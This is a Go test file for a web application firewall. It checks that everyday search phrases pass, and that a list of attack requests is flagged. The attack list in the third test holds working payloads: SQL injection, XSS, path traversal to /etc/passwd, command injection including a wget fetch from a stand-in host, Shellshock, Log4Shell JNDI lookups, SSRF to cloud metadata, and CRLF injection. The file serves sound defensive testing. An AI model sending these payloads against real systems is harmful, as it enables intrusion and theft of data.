package waf_test

import (
	"net/url"
	"slices"
	"testing"

	"github.com/sasumata/sasumata/internal/event"
	"github.com/sasumata/sasumata/internal/waf"
)

func TestWhatPeopleTypeIsNoAttack(t *testing.T) {
	p, m, e := content(t), waf.NewMachine(), event.New()
	f := func(words string) {
		t.Helper()
		for _, target := range []string{"/search?q=" + url.QueryEscape(words), "/search?lang=en&q=" + url.PathEscape(words) + "&page=2"} {
			request(e, target, "Mozilla/5.0", "https://shop.example/search?q="+url.QueryEscape(words))
			if v := p.Inspect(e, m); v.Attack {
				t.Errorf("%q is an attack by %v: %q", words, v.Rules, v.Payload)
			}
		}
	}
	f("select a colour from the list")
	f("size (select one)")
	f("options (select size, colour)")
	f("furniture; select a table from stock")
	f("union station select hotels")
	f("trade union select committee, london")
	f("western union select 5 star")
	f("o'neil's pub")
	f("rock 'n' roll and blues")
	f("d'angelo or l'amour")
	f(`"cats" or "dogs"`)
	f(`"cats" and "dogs" like these`)
	f(`"Best of 2020" #1`)
	f(`"Title" -- blog`)
	f("foo (bar) #12")
	f("song (live) -- remaster")
	f("room 1 and 2; cheap")
	f("3 or 4 bedrooms")
	f("x^2=4")
	f("1 < x < 5")
	f("if a=1 and b=c")
	f("drop leaf table")
	f("and/or")
	f("do not like \"mondays\"")
	f("merge into one")
	f("order by phone")
	f("group by 3 people")
	f("having fun")
	f("waiting for delay repay")
	f("all_users")
	f("name|id|email")
	f("ids|timestamp|user")
	f("diabetes; type 2 diet")
	f("dogs; cat food")
	f("lamp; set of 5")
	f("java; python 3")
	f("R&D; more information")
	f("salt & pepper | grinder")
	f("AT&T, M&M's")
	f("description of javascript: the good parts (paperback)")
	f("script writing for the screen")
	f("robots.txt scan document cookie recipe")
	f("network scan report")
	f("inverse function (mathematics)")
	f("alert system (fire)")
	f("print(ing) office")
	f("java.lang.NullPointerException at line 5")
	f("price > 100 && < 200")
	f("50% off + free shipping")
	f("100%")
	f("C:\\Users\\me\\photo.jpg")
	f("wait... what?")
	f("hello....world")
	f("https://example.com/page.php?x=1")
	f("http://localhost:8080/callback")
	f("status=active;online=1")
	f("{{item.image}} ${price}")
	f("line one\nlocation: upstairs\nto: the left")
	f("東京 大阪 おみやげ")
	f("müller & söhne größe 38")
}

func TestOrdinaryRequestsAreNoAttack(t *testing.T) {
	p, m, e := content(t), waf.NewMachine(), event.New()
	f := func(target, agent, referer string) {
		t.Helper()
		request(e, target, agent, referer)
		if v := p.Inspect(e, m); v.Attack {
			t.Errorf("%s %s %s is an attack by %v: %q", target, agent, referer, v.Rules, v.Payload)
		}
	}
	f("/robots.txt", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "")
	f("/", "curl/8.5.0", "")
	f("/wp-login.php", "", "")
	f("/javascript:void(0);", "", "")
	f("/docs/etc/passwd-format.html", "", "")
	f("/a/../b.css", "", "")
	f("/blog/2024/05/union-select-explained--part-2--", "", "")
	f("/image.php?src=../img/a.png", "", "")
	f("/.well-known/security.txt", "", "")
	f("/environment/.envision/", "", "")
	f("http://shop.example/cart?utm_source=mail&utm_medium=e-mail", "", "")
	f("/r?u=https%3A%2F%2Fshop.example%2Fa%3Fb%3Dc%26d%3De", "", "")
	f("/graphql?query=%7Bme%7Bid%20name%7D%7D", "", "")
	f("/a?filter=Name%20eq%20%27x%27%20and%20Age%20gt%205", "", "")
	f("/a", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "https://www.google.com/search?q=how+to+select+from+union")
}

func TestAttacksAreFound(t *testing.T) {
	p, m, e := content(t), waf.NewMachine(), event.New()
	f := func(category, target, agent, referer string) {
		t.Helper()
		request(e, target, agent, referer)
		if v := p.Inspect(e, m); !slices.Contains(v.Categories, category) {
			t.Errorf("%s: want %s, got %v by %v", target, category, v.Categories, v.Rules)
		}
	}
	f("sql_injection", "/item?id=1%20UNION%20SELECT%20null,version()--", "", "")
	f("sql_injection", "/item?id=1'+or+'1'='1", "", "")
	f("sql_injection", "/item?id=1/**/union/**/all/**/select/**/1,2", "", "")
	f("sql_injection", "/item?id=1;%20DROP%20TABLE%20users", "", "")
	f("sql_injection", "/login?user=admin'--", "", "")
	f("sql_injection", "/item?id=1+and+sleep(5)", "", "")
	f("xss", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "", "")
	f("xss", "/?q=%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E", "", "")
	f("xss", "/?q=\\x22 onmouseover=alert(1) x=\\x22", "", "")
	f("xss", "/?q=%u003cscript%u003e", "", "")
	f("xss", "/?q=&lt;script&gt;alert(1)", "", "")
	f("xss", "/?u=%EF%BC%9Cscript%EF%BC%9E", "", "")
	f("path_traversal", "/../../../../etc/passwd", "", "")
	f("path_traversal", "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "", "")
	f("path_traversal", "/dl?f=..%5c..%5cwindows%5cwin.ini", "", "")
	f("command_injection", "/ping?host=127.0.0.1;cat%20/etc/hostname", "", "")
	f("command_injection", "/ping?host=x;cat$IFS/etc/hostname", "", "")
	f("command_injection", "/ping?host=$(wget%20http://192.0.2.1/x)", "", "")
	f("command_injection", "/", "() { :; }; /bin/bash -c id", "")
	f("log4shell", "/", "${jndi:ldap://192.0.2.1/a}", "")
	f("log4shell", "/?x=$%7B$%7Blower:j%7Dndi:ldap://192.0.2.1/a%7D", "", "")
	f("file_inclusion", "/?page=php://filter/convert.base64-encode/resource=index", "", "")
	f("ssrf", "/fetch?url=http://169.254.169.254/latest/meta-data/", "", "")
	f("nosql_injection", "/login?user[$ne]=1", "", "")
	f("crlf_injection", "/r?u=%0d%0aSet-Cookie:a=b", "", "")
	f("sensitive_file", "/.git/config", "", "")
	f("sensitive_file", "/.env", "", "")
	f("scanner", "/", "sqlmap/1.8#stable (https://sqlmap.org)", "")
}
